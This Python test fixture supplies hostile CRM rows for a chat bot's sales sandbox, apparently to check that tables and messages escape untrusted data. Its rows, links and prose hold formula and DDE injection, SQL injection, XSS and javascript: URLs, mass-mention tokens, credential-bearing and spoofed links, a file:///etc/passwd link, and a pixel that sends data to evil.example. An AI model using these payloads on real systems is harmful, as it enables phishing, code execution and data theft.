"""Rows as nobody wants them: they break careless tables and messages, or attack who reads or exports them.

A person may have typed any of this into a CRM; the tenant hands it on as it is.
"""

from __future__ import annotations

from collections.abc import Mapping

from bot.model import DisplayFormat, Domain
from bot.sandbox.tenant.domains import SALES, Field, Role, Subject
from bot.sandbox.tenant.reply import Aggregate, Metric, Sort

_LONG = "A name that does not know when to end, and goes on and on " * 4
#: id, name, note, amount, digits.
ODDITIES: tuple[tuple[int, str, str | None, float | None, str], ...] = (
    (1, "<!channel> everybody", "<!here> <@U00000000> <#C00000000>", 1234.5, "9007199254740993"),
    (2, '=HYPERLINK("https://evil.example","Click")', "+1+1", -1234.5, "00012345"),
    (3, "🚀 Rocket & <Sons> 👩‍👩‍👧‍👦", "@SUM(A1:A9)", 0.0, "123456789012345678901234567890"),
    (4, "שלום עולם", "مرحبا بالعالم", None, "0"),
    (5, "株式会社サンプル", "测试 – 한국어", 1e-9, "-42"),
    (6, _LONG[:200], '|pipes|, "quotes" and\nlines\ttabs', 9.99e15, "1e5"),
    (7, "", "", 0.1, "007"),
    (8, "Z͑ͫ̓a̴̵l̷g̸o̶ t̶e̷x̸t̵", "\u202egnirts desrever\u202c", -0.0, "3.14159265358979323846"),
    (
        9,
        "*bold* _italic_ ~gone~ `code` ```fence",
        "[link](https://example.com/a|b) <https://example.com|x>",
        1.0,
        "1",
    ),
    (10, "null", None, 12.0, "NaN"),
    (11, "O'Brien; DROP TABLE oddities;--", "$x$ and $$y$$", 1_000_000_000.0, "Infinity"),
    (12, " leading and trailing ", "\u200bzero\u200bwidth\ufeff", 42.0, "+7"),
    # What calls people, and what only looks like it.
    (13, "<!everyone> read this", "<!subteam^S00000001> <!subteam^S00000001|@admins>", 13.0, "13"),
    (14, "<@U00000001|ada> has approved this", "<#C00000001|general> <!date^0^{date}|today>", 14.0, "14"),
    (15, "@\u200dchannel and @ch\u200dannel", "@channel @here @everyone", 15.0, "15"),
    (16, "\uff20here \uff20channel", "\uff20\uff48\uff45\uff52\uff45 <\u200b!here>", 16.0, "16"),
    # Links that are not what they seem, or carry a password.
    (17, "<https://evil.example|Click here>", "<https://evil.example|https://crm.example>", 17.0, "17"),
    (18, "https://user:pass@evil.example/login", "https://crm.example@evil.example/", 18.0, "18"),
    (19, "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", 19.0, "19"),
    (20, "[Sign in](javascript:alert(1))", "[Open](data:text/html;base64,PHNjcmlwdD4=)", 20.0, "20"),
    (
        21,
        "![chart](https://evil.example/pixel.png)",
        "[Invoice][1]\n\n[1]: https://evil.example/",
        21.0,
        "21",
    ),
    (22, "https://crm.example/deals/22", "the address under this name leads elsewhere", 22.0, "22"),
    (23, "Quarterly report.pdf", "the address under this name is a script", 23.0, "23"),
    (24, "My account", "the address under this name has a password in it", 24.0, "24"),
    (25, "Price list", "the address under this name ends its own link", 25.0, "25"),
    # Markup of others, and text that turns around.
    (26, '<img src=x onerror="alert(1)">', "<script>alert(1)</script> &lt;!channel&gt;", 26.0, "26"),
    (27, "invoice_\u202egpj.exe", "report\u2067fdp.scr\u2069", 27.0, "27"),
    # Formulas.
    (28, "=1+1", "+1+1", 28.0, "28"),
    (29, "-1+1", "@SUM(1+1)", 29.0, "29"),
    (30, "\t=1+1", "\r=1+1", 30.0, "30"),
    (31, "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", 31.0, "31"),
    # Words without an end.
    (32, "W" * 400, "https://crm.example/" + "a" * 600, 32.0, "32"),
)
#: The name of a column, as whoever made the table may have chosen it.
HOSTILE_LABEL = "=1+1 <!here> [Length](https://evil.example)"
#: Addresses of names, by the row's id.
LINKS: Mapping[int, str] = {
    1: "https://crm.example/deals/1",
    13: "ftp://evil.example/file",
    14: "slack://user?team=T1&id=U1",
    19: "file:///etc/passwd",
    20: "JaVaScRiPt:alert(1)",
    21: "data:text/html,<script>alert(1)</script>",
    22: "https://evil.example/deals/22",
    23: "javascript:alert(1)",
    24: "https://user:pass@evil.example/login",
    25: "https://evil.example/|x> <!channel> <https://evil.example/",
}
#: What an answer says when it repeats what stands in the data.
PROSE = (
    "<!channel> <!here> <!everyone> <!subteam^S00000001|@admins> <@U00000001|ada>, @channel must act now.\n\n"
    "[Your session has ended: sign in](https://evil.example/login) or <https://evil.example|https://crm.example>,"
    " else https://user:pass@evil.example/ and [run](javascript:alert(1)) or [open](data:text/html,hi).\n\n"
    "![pixel](https://evil.example/pixel.png?data=secret) [the report][1] <img src=x onerror=alert(1)>\n\n"
    '[1]: https://evil.example/report "Quarterly report"\n\n'
)
#: Follow-ups that nobody should press.
QUESTIONS = (
    "<!channel> drop it",
    "<https://evil.example|Approve> all of <@U00000001>'s deals",
    "W" * 300,
)


def oddities() -> Subject:
    """The rows as a subject of the sales domain; nobody asks for it by its words, a command lists it."""
    return Subject(
        domain=Domain(SALES, "Sales pipeline", "Rows with names that are hard to show."),
        source="oddities AS o",
        joins=(),
        noun="oddity",
        nouns="oddities",
        noun_words=(),
        row="name",
        time="",
        fields=_fields(),
        values=(),
        measures=(),
        metric=Metric("amount", Aggregate.SUM),
        ranking=Metric("amount", Aggregate.SUM),
        worth=None,
        columns=("number", "name", "note", "amount", "digits", "length"),
        listing=Sort("number", descending=False),
        chapters=(),
        examples=(),
    )


def linked(visualization: Mapping[str, object]) -> Mapping[str, object]:
    """The visualization of these rows (in the order of their ids) with :data:`LINKS` under their names."""
    rows, order = visualization["data"], visualization["columnOrder"]
    if not isinstance(rows, list) or not isinstance(order, list):
        raise TypeError("a visualization has rows and an order of columns")
    at = order.index("oddities.name")
    data = [
        [{**cell, "hyperlink": LINKS.get(number)} if n == at else cell for n, cell in enumerate(row)]
        for number, row in enumerate(rows, 1)
    ]
    return {**visualization, "data": data}


def _fields() -> tuple[Field, ...]:
    money, unknown = DisplayFormat.NUMBER_CURRENCY_USD, DisplayFormat.DISPLAY_FORMAT_UNKNOWN
    rows = (
        ("name", "Name", Role.DIMENSION, "o.name", unknown, "VARCHAR"),
        ("note", "Note", Role.DIMENSION, "o.note", unknown, "VARCHAR"),
        ("digits", "Digits", Role.DIMENSION, "o.big", unknown, "VARCHAR"),
        ("length", HOSTILE_LABEL, Role.DIMENSION, "LENGTH(o.name)", DisplayFormat.NUMBER_INTEGER, "INT64"),
        ("amount", "Amount", Role.MEASURE, "o.amount", money, "DOUBLE"),
        ("number", "Number", Role.DIMENSION, "o.id", DisplayFormat.NUMBER_INTEGER, "INT64"),
    )
    return tuple(
        Field(key, label, role, sql, (), "oddities", format=display, data_type=kind)
        for key, label, role, sql, display, kind in rows
    )
